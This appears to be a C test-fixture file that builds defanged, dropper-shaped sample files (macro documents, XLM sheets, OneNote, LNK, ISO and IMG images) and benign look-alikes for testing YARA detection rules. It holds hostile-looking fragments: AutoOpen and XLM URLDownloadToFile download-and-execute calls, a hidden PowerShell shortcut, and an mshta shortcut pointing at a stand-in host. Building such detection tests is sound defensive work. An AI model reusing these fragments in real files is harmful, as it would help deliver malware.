/* taiou-test-droppers.c — synthetic files shaped like Emotet-era droppers, and ordinary ones
 *
 * Each builder follows a format's specification (MS-CFB, MS-SHLLINK, MS-ONESTORE, ECMA-119, the
 * PE format, a FAT boot sector) just far enough for the rules of data/yara/taiou-droppers.yar
 * to tell; the "ordinary" ones have the same headers without what makes a dropper.
 */
#define G_LOG_DOMAIN "taiou-test"

#include "config.h"

#include <string.h>

#include "taiou-test-droppers.h"

static void
append_wide (GByteArray *bytes,
             const char *ascii)
{
  for (const char *p = ascii; *p != '\0'; p++)
    {
      guint8 unit[2] = { (guint8) *p, 0 };
      g_byte_array_append (bytes, unit, 2);
    }
}

static void
append_text (GByteArray *bytes,
             const char *text)
{
  g_byte_array_append (bytes, (const guint8 *) text, strlen (text));
}

static void
pad_to (GByteArray *bytes,
        gsize       size)
{
  if (bytes->len < size)
    {
      gsize old = bytes->len;
      g_byte_array_set_size (bytes, size);
      memset (bytes->data + old, 0, size - old);
    }
}

/* MS-CFB: the compound file signature and a 512-byte header. */
static GByteArray *
ole_header (void)
{
  static const guint8 signature[] = { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 };
  GByteArray *bytes = g_byte_array_new ();

  g_byte_array_append (bytes, signature, sizeof signature);
  pad_to (bytes, 512);
  return bytes;
}

static GBytes *
build_maldoc_vba (void)
{
  GByteArray *bytes = ole_header ();

  append_wide (bytes, "WordDocument");
  pad_to (bytes, 640);
  append_wide (bytes, "_VBA_PROJECT");
  pad_to (bytes, 768);
  append_wide (bytes, "VBA");
  pad_to (bytes, 1024);
  append_text (bytes, "Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\n"
                      "  Set s = CreateObject(\"WScript.Shell\")\n"
                      "  URLDownloadToFile 0, u, p, 0, 0\nEnd Sub\n");
  pad_to (bytes, 2048);
  return g_byte_array_free_to_bytes (bytes);
}

static GBytes *
build_maldoc_xlm (void)
{
  GByteArray *bytes = ole_header ();

  append_wide (bytes, "Workbook");
  pad_to (bytes, 1024);
  append_text (bytes, "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,A1,B1,0,0)"
                      "=EXEC(\"regsvr32 -s ..\\\\x.ocx\")");
  pad_to (bytes, 2048);
  return g_byte_array_free_to_bytes (bytes);
}

/* A zip's first local file header, naming @member. */
static GBytes *
build_zip_with (const char *member)
{
  static const guint8 local[] = { 0x50, 0x4B, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0 };
  GByteArray *bytes = g_byte_array_new ();

  g_byte_array_append (bytes, local, sizeof local);
  pad_to (bytes, 30);
  append_text (bytes, "[Content_Types].xml");
  pad_to (bytes, 200);
  append_text (bytes, member);
  pad_to (bytes, 400);
  return g_byte_array_free_to_bytes (bytes);
}

static GBytes *
build_docm (void)
{
  return build_zip_with ("word/vbaProject.bin");
}

static GBytes *
build_docx (void)
{
  return build_zip_with ("word/document.xml");
}

/* MS-ONESTORE: the .one GUID, then a FileDataStoreObject holding @embedded. */
static GBytes *
build_onenote_with (const char *embedded)
{
  static const guint8 one_guid[] = { 0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D,
                                     0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3 };
  static const guint8 store_guid[] = { 0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45,
                                       0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC };
  GByteArray *bytes = g_byte_array_new ();

  g_byte_array_append (bytes, one_guid, sizeof one_guid);
  pad_to (bytes, 1024);
  g_byte_array_append (bytes, store_guid, sizeof store_guid);
  pad_to (bytes, 1060);
  append_text (bytes, embedded);
  pad_to (bytes, 4096);
  return g_byte_array_free_to_bytes (bytes);
}

static GBytes *
build_onenote_script (void)
{
  return build_onenote_with ("<HTA:APPLICATION ID=\"a\"><script language=\"VBScript\">"
                             "CreateObject(\"WScript.Shell\").Run \"cmd /c echo\"</script>");
}

static GBytes *
build_onenote_picture (void)
{
  return build_onenote_with ("\x89PNG\r\n\x1a\nIHDR ordinary meeting notes picture");
}

/* MS-SHLLINK: HeaderSize, LinkCLSID, then a UTF-16 command line. */
static GBytes *
build_lnk_with (const char *target)
{
  static const guint8 header[] = { 0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
                                   0xC0, 0, 0, 0, 0, 0, 0, 0x46 };
  GByteArray *bytes = g_byte_array_new ();

  g_byte_array_append (bytes, header, sizeof header);
  pad_to (bytes, 0x4C);
  append_wide (bytes, target);
  pad_to (bytes, 512);
  return g_byte_array_free_to_bytes (bytes);
}

static GBytes *
build_lnk_powershell (void)
{
  return build_lnk_with ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "
                         "-w hidden -c echo");
}

static GBytes *
build_lnk_mshta (void)
{
  return build_lnk_with ("C:\\Windows\\System32\\mshta.exe http://example.invalid/a.hta");
}

static GBytes *
build_lnk_document (void)
{
  return build_lnk_with ("C:\\Users\\taro\\Documents\\見積書.docx");
}

/* ECMA-119: 16 empty sectors, the primary volume descriptor, a directory naming @entry. */
static GBytes *
build_iso_with (const char *entry)
{
  GByteArray *bytes = g_byte_array_new ();

  pad_to (bytes, 0x8000);
  append_text (bytes, "\001CD001\001");
  pad_to (bytes, 0xA000);
  append_text (bytes, entry);
  pad_to (bytes, 0xC000);
  return g_byte_array_free_to_bytes (bytes);
}

static GBytes *
build_iso_lnk (void)
{
  return build_iso_with ("INVOICE.LNK;1");
}

static GBytes *
build_iso_readme (void)
{
  return build_iso_with ("README.TXT;1");
}

/* A FAT boot sector (jump, 0x55AA), then a shortcut stored in the image. */
static GBytes *
build_img_lnk (void)
{
  g_autoptr(GBytes) lnk = build_lnk_document ();
  GByteArray *bytes = g_byte_array_new ();
  guint8 jump[] = { 0xEB, 0x3C, 0x90 };
  guint8 signature[] = { 0x55, 0xAA };

  g_byte_array_append (bytes, jump, sizeof jump);
  append_text (bytes, "MSDOS5.0");
  pad_to (bytes, 510);
  g_byte_array_append (bytes, signature, sizeof signature);
  pad_to (bytes, 0x4000);
  g_byte_array_append (bytes, g_bytes_get_data (lnk, NULL), g_bytes_get_size (lnk));
  pad_to (bytes, 0x20000);
  return g_byte_array_free_to_bytes (bytes);
}

/**
 * taiou_test_pe_head:
 *
 * An MZ header, a PE header with one section whose raw data ends at @sections_end.
 */
GBytes *
taiou_test_pe_head (guint32 sections_end)
{
  GByteArray *bytes = g_byte_array_new ();
  guint32 e_lfanew = 0x80;
  guint16 n_sections = 1;
  guint16 optional_size = 0xE0;
  guint32 section = e_lfanew + 24 + optional_size;
  guint32 raw_size = sections_end - 0x400;
  guint32 raw_pointer = 0x400;

  append_text (bytes, "MZ");
  pad_to (bytes, 0x3C);
  g_byte_array_append (bytes, (const guint8 *) &e_lfanew, 4);
  append_text (bytes, "This program cannot be run in DOS mode.");
  pad_to (bytes, e_lfanew);
  append_text (bytes, "PE");
  pad_to (bytes, e_lfanew + 4);
  pad_to (bytes, e_lfanew + 6);
  g_byte_array_append (bytes, (const guint8 *) &n_sections, 2);
  pad_to (bytes, e_lfanew + 20);
  g_byte_array_append (bytes, (const guint8 *) &optional_size, 2);
  pad_to (bytes, section);
  append_text (bytes, ".text");
  pad_to (bytes, section + 16);
  g_byte_array_append (bytes, (const guint8 *) &raw_size, 4);
  g_byte_array_append (bytes, (const guint8 *) &raw_pointer, 4);
  pad_to (bytes, 0x400);
  return g_byte_array_free_to_bytes (bytes);
}

/**
 * taiou_test_ole_head:
 *
 * A compound file's header (512-byte sectors) whose FAT has @n_fat_sectors sectors.
 */
GBytes *
taiou_test_ole_head (guint32 n_fat_sectors)
{
  GByteArray *bytes = ole_header ();
  guint16 sector_shift = 9;

  memcpy (bytes->data + 0x1E, &sector_shift, 2);
  memcpy (bytes->data + 0x2C, &n_fat_sectors, 4);
  append_wide (bytes, "WordDocument");
  pad_to (bytes, 4096);
  return g_byte_array_free_to_bytes (bytes);
}

static GBytes *
build_small_program (void)
{
  return taiou_test_pe_head (0x400 + 0x200);
}

static GBytes *
build_plain_ole (void)
{
  GByteArray *bytes = ole_header ();

  append_wide (bytes, "WordDocument");
  pad_to (bytes, 1024);
  append_text (bytes, "The quarterly report: sales rose; see the PowerShell training notes.");
  pad_to (bytes, 2048);
  return g_byte_array_free_to_bytes (bytes);
}

static GBytes *
build_text (void)
{
  return g_bytes_new_static ("議事録: powershell と mshta の研修について。URLDownloadToFile の解説。\n",
                             strlen ("議事録: powershell と mshta の研修について。URLDownloadToFile の解説。\n"));
}

const TaiouTestDropper *
taiou_test_droppers (void)
{
  static const TaiouTestDropper droppers[] = {
    { "請求書.doc", "Taiou_Maldoc_VBA_AutoExec_Downloader", build_maldoc_vba },
    { "invoice.xls", "Taiou_Maldoc_XLM_Downloader", build_maldoc_xlm },
    { "report.docm", "Taiou_OOXML_Macro_Enabled_Document", build_docm },
    { "notes.one", "Taiou_OneNote_Embedded_Script", build_onenote_script },
    { "scan.pdf.lnk", "Taiou_LNK_Launches_Script_Host", build_lnk_powershell },
    { "fax.lnk", "Taiou_LNK_Launches_Script_Host", build_lnk_mshta },
    { "invoice.iso", "Taiou_Disk_Image_Hiding_Shortcut_Or_Program", build_iso_lnk },
    { "invoice.img", "Taiou_Disk_Image_Hiding_Shortcut_Or_Program", build_img_lnk },
    /* Ordinary files with the same headers: none may match. */
    { "report.docx", NULL, build_docx },
    { "meeting.one", NULL, build_onenote_picture },
    { "見積書.lnk", NULL, build_lnk_document },
    { "photos.iso", NULL, build_iso_readme },
    { "tool.exe", NULL, build_small_program },
    { "report.doc", NULL, build_plain_ole },
    { "議事録.txt", NULL, build_text },
    { NULL, NULL, NULL }
  };

  return droppers;
}
